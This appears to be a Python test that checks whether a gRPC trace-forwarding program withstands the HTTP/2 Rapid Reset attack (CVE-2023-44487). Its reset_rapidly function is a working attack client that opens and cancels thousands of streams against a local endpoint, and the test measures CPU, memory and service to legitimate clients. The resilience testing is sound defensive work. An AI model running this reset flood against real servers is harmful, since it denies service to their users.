"""A client that announces requests and takes them back at once, as fast as it can (CVE-2023-44487): others are served.

gRPC drops such requests before Python sees them; so each costs less than any request that it could send instead.
"""

from __future__ import annotations

import os
import socket
from contextlib import suppress
from pathlib import Path
from threading import Event, Thread
from typing import TYPE_CHECKING

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events

from tests.faults.program import Program
from tests.peers.otlp_sink import METHOD
from tests.support.peer import peer
from tests.support.spans import encoded, span

if TYPE_CHECKING:
    from collections.abc import Iterator

RESETS = 10_000
REQUESTS = 300
_AT_ONCE = 50
_MOST_MEMORY_MIB = 64
_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "localhost"),
    (":path", METHOD),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def reset_rapidly(endpoint: str, resets: int) -> int:
    """Announce so many requests and take each back; return how many were, less where the server ends the connection before."""
    client = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
    host, _, port = endpoint.rpartition(":")
    with socket.create_connection((host, int(port)), 30) as connection:
        client.initiate_connection()
        for done in range(0, resets, _AT_ONCE):
            for _ in range(_AT_ONCE):
                stream = client.get_next_available_stream_id()
                client.send_headers(stream, _HEADERS)
                client.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
            try:
                connection.sendall(client.data_to_send())
                if any(isinstance(event, h2.events.ConnectionTerminated) for event in _events(client, connection)):
                    return done
            except ConnectionError:
                return done
    return resets


def _events(client: h2.connection.H2Connection, connection: socket.socket) -> Iterator[h2.events.Event]:
    connection.setblocking(False)
    with suppress(BlockingIOError):
        yield from client.receive_data(connection.recv(1 << 16))
    connection.settimeout(30)


class Costs:
    """What a process has used until now."""

    def __init__(self, process: int) -> None:
        fields = Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()
        self.cpu = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
        self.memory = int(fields[21]) * os.sysconf("SC_PAGE_SIZE") >> 20


def test_requests_that_are_taken_back_at_once_cost_less_than_requests_and_keep_nobody_out(tmp_path: Path) -> None:
    with peer() as server:
        program = Program(tmp_path, server.endpoint, storage=False)
        program.start()
        try:
            program.wait_until_up()
            assert program.process is not None
            with grpc.insecure_channel(program.endpoint) as channel:
                export = channel.unary_unary(METHOD)
                export(encoded(span()), timeout=60)
                before = Costs(program.process.pid)
                for number in range(REQUESTS):
                    export(encoded(span(number, 1)), timeout=60)
                served = Costs(program.process.pid)
                over = Event()
                answered: list[int] = []

                def send() -> None:
                    while not over.is_set():
                        export(encoded(span(len(answered), 2)), timeout=60)
                        answered.append(1)
                        over.wait(0.05)

                sender = Thread(target=send)
                sender.start()
                try:
                    resets = reset_rapidly(program.endpoint, RESETS)
                finally:
                    over.set()
                    sender.join(60)
                after = Costs(program.process.pid)
        finally:
            program.kill()
    of_request = (served.cpu - before.cpu) / REQUESTS
    of_reset = (after.cpu - served.cpu - len(answered) * of_request) / max(resets, 1)
    assert answered
    assert resets < RESETS or of_reset < of_request, (of_reset, of_request)
    assert after.memory - served.memory < _MOST_MEMORY_MIB
